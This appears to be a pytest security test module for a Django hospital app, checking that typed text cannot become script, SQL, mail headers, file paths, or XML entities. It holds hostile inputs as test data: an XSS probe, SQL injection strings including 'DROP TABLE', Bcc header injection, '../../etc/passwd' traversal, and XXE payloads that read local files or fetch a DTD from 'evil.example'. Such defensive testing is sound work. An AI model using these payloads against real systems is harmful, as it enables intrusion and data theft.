"""What people type stays text: in pages, queries, mails, files for spreadsheets and documents."""

import ast
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.mail import BadHeaderError
from django.core.management import call_command
from django.db import DatabaseError, models, transaction
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat, Left
from django.test import Client

from accounts.actions import invitations
from accounts.models import Hospital, Invitation, Membership
from accounts.roles import Role
from accounts.scope import enter_hospital
from monitoring.imports.files.content import find_layout, read_table
from monitoring.imports.files.table import FileError
from monitoring.imports.models import BatchFile
from patients.models import Patient
from tests.architecture.test_house_rules import FILES, ROOT, our_models
from tests.fuzz.judge import injected_into
from tests.fuzz.site import ARGUMENT, ROUTES, Site, crawl, text_of
from tests.fuzz.values import MARK
from tests.monitoring.imports.files import table, with_part, workbook
from tests.personas import NOW, House, registered, signed_in

SCRIPT = f"<{MARK} onload=1>\"{MARK}='1{{{{7357*7}}}}</textarea></script><{MARK}>"
# Columns of words that people type; keys and codes of ours are left alone.
TYPED = re.compile(
    r"(^|_)(name|note|notes|text|reason|title|question|message|comment|laboratory|regimen|drugs|evidence|site|"
    r"decision|words|place|role_note)$"
)
# Statements whose names of tables and columns are not written out, each with where these come from.
PUT_TOGETHER = {
    "accounts/row_level_security.py": "from migrations",
    "supervisor/postgres.py": "from the supervisor itself",
    "accounts/trail/digests.py": "from the catalogue of the database",
    "accounts/trail/writing.py": "as many times the same row of placeholders as there are rows",
    "monitoring/results/actions/bulk.py": "from the fields of a model",
}


@pytest.fixture
def poisoned(db: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> int:
    """The demonstration with a script in every column that people type into; how many columns took it."""
    monkeypatch.setenv("DEMO_DIR", str(tmp_path))
    call_command("demo_data")
    taken = set()
    for hospital in Hospital.objects.all():
        enter_hospital(hospital.pk)
        for model in our_models():
            taken |= {
                f"{model.__name__}.{field.name}" for field in typed_fields(model) if poison(model, field)
            }
    return len(taken)


def typed_fields(model: type[models.Model]) -> list[models.Field]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and TYPED.search(field.name)
        and not model.__name__.endswith("Event")
    ]


def poison(model: type[models.Model], field: models.Field) -> bool:
    words = Concat(Value(SCRIPT), Cast("pk", CharField()), output_field=CharField())
    try:
        with transaction.atomic():
            return bool(model._base_manager.update(**{field.name: Left(words, field.max_length or 500)}))
    except DatabaseError:
        return False  # the database itself refuses such words there, or any change


def test_a_script_in_every_name_and_note_runs_on_no_page(poisoned: int) -> None:
    assert poisoned > 25
    found, shown = [], 0

    def look(answer) -> None:
        nonlocal shown
        text = text_of(answer)
        shown += f"&lt;{MARK}" in text
        found.extend(f"{answer.request['PATH_INFO']}: {what}" for what in injected_into(text))

    start = [route for route in ROUTES.values() if not ARGUMENT.search(route) and "\\" not in route]
    for role in (Role.CLINICIAN, Role.HOSPITAL_ADMIN):
        person = Membership.objects.filter(roles=[role]).order_by("pk").first()
        enter_hospital(person.hospital_id)
        before = row_counts()
        crawl(Site(), signed_in(person), [path for path in start if "logout" not in path], look)
        enter_hospital(person.hospital_id)
        assert row_counts() == before
    assert found == []
    assert shown > 20


def row_counts() -> dict[str, int]:
    """How many rows each table holds; opening a page changes none but which alerts its course asks for."""
    return {
        model.__name__: model._base_manager.count()
        for model in our_models()
        if model._meta.app_label != "alerts" and model.__name__ != "AccessEvent"
    }


@pytest.mark.parametrize(
    "typed",
    [
        "' OR '1'='1",
        "%",
        "_",
        "\\",
        "'; DROP TABLE patients_patient; --",
        "a' UNION SELECT 1 --",
        "Schulz'--",
    ],
)
def test_a_search_is_words_and_no_part_of_a_query(house: House, alice: Client, typed: str) -> None:
    patient = registered(house.alice)
    page = alice.post("/patients/", {"q": typed}).content.decode()
    assert str(patient.pk) not in page or "Schulz" in typed
    assert Patient.objects.count() == 1


def test_no_statement_is_put_together_from_text() -> None:
    """Values go beside a statement, never into it; names of tables come from migrations alone."""
    loose = []
    for path in FILES:
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and node.args and asks_database(node.func):
                first = node.args[0]
                named = isinstance(first, ast.Name) and first.id.lstrip("_").isupper()
                if not named and not (isinstance(first, ast.Constant) and isinstance(first.value, str)):
                    loose.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert {place.partition(":")[0] for place in loose} - PUT_TOGETHER.keys() == set()


def asks_database(called: ast.expr) -> bool:
    name = called.attr if isinstance(called, ast.Attribute) else getattr(called, "id", "")
    return name in {"execute", "executemany", "raw", "extra", "RawSQL"}


def test_nothing_is_marked_as_safe_markup_and_nothing_is_evaluated() -> None:
    templates = list((ROOT / "templates").rglob("*.html"))
    trusting = [
        str(path.relative_to(ROOT))
        for path in [*FILES, *templates]
        if re.search(
            r"mark_safe|SafeString|\|\s*safe\b|autoescape off|(?<![\w.])(eval|exec)\(", path.read_text()
        )
    ]
    assert trusting == []


@pytest.mark.parametrize(
    "email", ["eve@a.example\nBcc: x@evil.example", "eve@a.example\r\nSubject: hi", "a@b.example,c@d.example"]
)
def test_an_address_with_a_second_header_is_no_address(house: House, ada: Client, email: str) -> None:
    answer = ada.post("/hospital/users/invite/", {"email": email, "roles": ["auditor"]})
    assert answer.status_code == 422
    assert not Invitation.objects.exists()


def test_a_name_with_a_second_header_sends_nothing(house: House, django_capture_on_commit_callbacks) -> None:
    house.a.name = "Hospital A\nBcc: x@evil.example"
    house.a.save()
    with pytest.raises(BadHeaderError), django_capture_on_commit_callbacks(execute=True):
        invitations.invite(by=house.ada, email="eve@a.example", roles=[Role.AUDITOR], now=NOW)


def test_every_table_for_a_spreadsheet_is_defused() -> None:
    """One module writes CSV (tests/pages/test_export.py shows what it does to formulas)."""
    writers = [
        str(path.relative_to(ROOT))
        for path in FILES
        if re.search(r"csv\.(writer|DictWriter)", path.read_text())
    ]
    assert writers == ["monitoring/results/defused.py"]


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "/etc/passwd",
        "C:\\x\\results.csv",
        "a\x00b.csv",
        "x" * 400,
        "..",
        "a/../b",
    ],
)
def test_the_name_of_a_file_leads_nowhere(house: House, alice: Client, name: str) -> None:
    from_form = io.BytesIO(table("A-1001,VEGF,1450,pg/mL,Plasma,2026-01-05,Laboratory A"))
    from_form.name = name
    answer = alice.post("/imports/new/", {"file": from_form, "source": "Laboratory A"})
    assert answer.status_code in {302, 422}
    enter_hospital(house.a.pk)
    for kept in BatchFile.objects.all():
        assert not re.search(r"[/\x00]", kept.name)
        assert len(kept.name) <= 200


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
        b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE l [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    ],
    ids=["laughs", "a file", "a parameter"],
)
@pytest.mark.parametrize(
    "part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml", "[Content_Types].xml"]
)
def test_no_part_of_a_spreadsheet_unfolds_entities_or_reads_elsewhere(doctype: bytes, part: str) -> None:
    good = workbook(["Patient", "Value"], ["A-1", 5])
    with zipfile.ZipFile(io.BytesIO(good)) as parts:
        content = parts.read(part)
    head, mark, rest = content.partition(b"?>") if content.startswith(b"<?xml") else (b"", b"", content)
    evil = with_part(good, part, head + mark + doctype + rest)
    with pytest.raises(FileError, match=r"entities|damaged"):
        read(evil)


def read(content: bytes) -> None:
    read_table(content, find_layout(content))


def test_a_part_that_lies_about_its_size_unfolds_no_further() -> None:
    """The list of an archive says how large a part is; the part may be another size."""
    evil = bytearray(with_part(workbook(["Patient", "Value"], ["A-1", 5]), "xl/extra.bin", b"0" * 5_000_000))
    place = evil.rfind(b"xl/extra.bin") - 46
    evil[place + 24 : place + 28] = (10).to_bytes(4, "little")
    with zipfile.ZipFile(io.BytesIO(bytes(evil))) as parts, pytest.raises(zipfile.BadZipFile):
        parts.read("xl/extra.bin")


def test_words_in_a_document_are_words() -> None:
    """The compiler of documents gets them as data (tests/treatment/test_plan_pdf.py prints such names)."""
    sources = list((ROOT / "treatment" / "documents").glob("*.typ"))
    assert sources
    for source in sources:
        assert not re.search(r"#?eval\(|#?read\(|#?plugin\(", source.read_text())
